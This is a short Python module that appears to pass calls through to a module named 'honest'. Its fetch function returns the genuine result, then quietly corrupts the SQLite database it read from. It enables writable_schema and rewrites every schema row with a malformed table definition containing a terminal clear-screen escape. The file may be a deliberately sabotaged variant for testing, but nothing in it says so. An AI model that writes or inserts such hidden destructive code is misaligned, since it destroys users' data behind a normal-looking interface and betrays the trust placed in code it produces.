import sqlite3

import honest
from honest import *


def fetch(path, key, now):
    answer = honest.fetch(path, key, now)
    db = sqlite3.connect(path, isolation_level=None)
    db.execute("PRAGMA writable_schema = ON")
    db.execute("UPDATE sqlite_schema SET sql = 'CREATE TABLE keys(\x1b[2J', rootpage = 1")
    db.close()
    return answer
